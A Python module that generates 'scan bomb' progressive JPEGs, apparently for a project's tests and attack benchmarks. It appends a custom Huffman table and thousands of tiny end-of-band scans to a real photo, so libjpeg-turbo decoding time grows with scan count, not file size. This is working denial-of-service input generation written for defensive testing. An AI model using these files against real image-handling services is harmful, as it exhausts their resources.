"""Progressive JPEGs with as many scans as asked: issue 17's scan bomb, for tests and
bench/attacks.py.

A real photo, saved by Pillow as a progressive JPEG (4:2:0, about 10 scans), then, before
its end marker, one more Huffman table and ``extra_scans`` tiny scans of the luma
component, each 12 bytes: an SOS header for one AC coefficient and a single end-of-band
run over every block. libjpeg-turbo decodes it without complaint and makes a pass over
all blocks for each scan, so the cost grows with the scan count, not with the bytes.
"""

from __future__ import annotations

import io
import struct

import numpy as np
from PIL import Image as PILImage

__all__ = ["progressive_jpeg", "scan_bomb"]

_EOB_TABLE_ID = 3  # an AC table id Pillow's file does not use


def progressive_jpeg(width_px: int = 416, height_px: int = 416, quality: int = 75) -> bytes:
    """A photo (scikit-image's chelsea, cropped and scaled) as a progressive JPEG."""
    from skimage import data

    photo = PILImage.fromarray(np.asarray(data.chelsea())).resize((width_px, height_px))
    out = io.BytesIO()
    photo.save(out, "JPEG", quality=quality, progressive=True, subsampling="4:2:0")
    return out.getvalue()


def scan_bomb(extra_scans: int, width_px: int = 416, height_px: int = 416) -> bytes:
    """A valid progressive JPEG of about 10 + ``extra_scans`` scans."""
    base = progressive_jpeg(width_px, height_px)
    if not base.endswith(b"\xff\xd9"):
        raise ValueError("expected Pillow's JPEG to end with its EOI marker")
    blocks = ((width_px + 7) // 8) * ((height_px + 7) // 8)  # luma, one scan's blocks
    run_bits = blocks.bit_length() - 1  # EOBn: a run of 2**n + n extra bits
    symbol = run_bits << 4
    # DHT: class 1 (AC), one code of length 1 ("0") for the run symbol
    table = bytes([0x10 | _EOB_TABLE_ID, 1] + [0] * 15 + [symbol])
    dht = b"\xff\xc4" + struct.pack(">H", 2 + len(table)) + table
    bits = "0" + format(blocks - (1 << run_bits), f"0{run_bits}b")
    bits += "1" * (-len(bits) % 8)  # pad with ones, as JPEG does
    entropy = int(bits, 2).to_bytes(len(bits) // 8, "big")
    scans = []
    for i in range(extra_scans):
        k = 1 + i % 63  # one AC coefficient, again and again
        header = struct.pack(">HBBBBBB", 8, 1, 1, _EOB_TABLE_ID, k, k, 0)
        scans.append(b"\xff\xda" + header + entropy)
    return base[:-2] + dht + b"".join(scans) + b"\xff\xd9"
